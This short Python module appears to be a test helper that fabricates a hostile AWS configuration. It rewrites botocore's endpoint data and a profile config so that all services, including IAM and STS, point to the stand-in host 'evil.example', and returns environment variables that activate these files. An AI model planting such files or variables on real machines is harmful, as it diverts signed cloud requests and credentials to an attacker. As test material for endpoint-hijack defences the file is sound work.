"""Files of the AWS SDK from an attacker who wants to receive the calls of others: models, data, and a configuration."""

import gzip
from pathlib import Path
from typing import Final

from botocore.loaders import Loader

EVIL: Final = "evil.example"
_DATA: Final = (
    "partitions.json",
    "endpoints.json",
    "sts/2011-06-15/endpoint-rule-set-1.json",
    "iam/2010-05-08/endpoint-rule-set-1.json",
)


def write_models(folder: Path) -> None:
    """Write botocore's own data with every host moved to `EVIL`, in the layout that it looks for."""
    for name in _DATA:
        source = Path(Loader.BUILTIN_DATA_PATH, name)
        text = source.read_text() if source.exists() else gzip.decompress(Path(f"{source}.gz").read_bytes()).decode()
        assert "amazonaws.com" in text
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text.replace("amazonaws.com", EVIL))


def write_config(path: Path, url: str) -> None:
    """Write a configuration in which a profile sends every service, and IAM and STS once more, to a URL."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        f"[default]\nregion = us-east-1\nendpoint_url = {url}\nservices = evil\n"
        f"[services evil]\niam =\n  endpoint_url = {url}\nsts =\n  endpoint_url = {url}\n"
    )


def hostile_home(folder: Path, url: str = f"https://{EVIL}") -> dict[str, str]:
    """Make a home directory of such files; returns the variables that lead to it."""
    write_models(folder / ".aws/models")
    write_config(folder / ".aws/config", url)
    return {
        "HOME": str(folder),
        "AWS_CONFIG_FILE": str(folder / ".aws/config"),
        "AWS_DATA_PATH": str(folder / ".aws/models"),
    }
